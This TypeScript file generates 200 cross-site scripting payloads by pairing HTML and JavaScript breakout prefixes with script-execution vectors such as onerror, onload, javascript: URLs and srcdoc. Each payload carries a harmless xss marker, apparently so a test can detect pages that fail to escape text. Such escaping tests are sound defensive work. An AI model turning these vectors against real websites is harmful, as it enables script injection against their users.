/** 200 texts that would run as a script wherever a screen forgot to write them as text: ways to run, in ways to break out. */

const RUN = [
  (code: string) => `<script>${code}</script>`,
  (code: string) => `<img src=x onerror=${code}>`,
  (code: string) => `<svg onload=${code}>`,
  (code: string) => `<svg><script>${code}</script></svg>`,
  (code: string) => `<iframe srcdoc="<script>${code}</script>">`,
  (code: string) => `<details open ontoggle=${code}>`,
  (code: string) => `<a href=javascript:${code}>go</a>`,
  (code: string) => `<input autofocus onfocus=${code}>`,
  (code: string) => `<object data="data:text/html,<script>${code}</script>">`,
  (code: string) => `javascript:${code}`,
]

const BREAK = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</option></select>',
  '&lt;/p&gt;',
  '\\u003c/p\\u003e',
  '\\"}]};',
  '{{1}}',
  '%3C/p%3E',
  '\u2028',
  '" onmouseover=x y="',
  '<!--<p ',
  '<noscript><p title="</noscript>',
]

export interface Payload {
  /** Stands in it as `xss=NUMBER`: a page that shows the payload shows this, and a page that ran it has `window.xss`. */
  mark: string
  text: string
}

/** Each fits a name: 100 characters. */
export const PAYLOADS: readonly Payload[] = BREAK.flatMap((before, row) =>
  RUN.map((run, column) => {
    const mark = `xss=${1000 + row * RUN.length + column}`
    return { mark, text: `${before}${run(mark)}`.trim() }
  }),
)
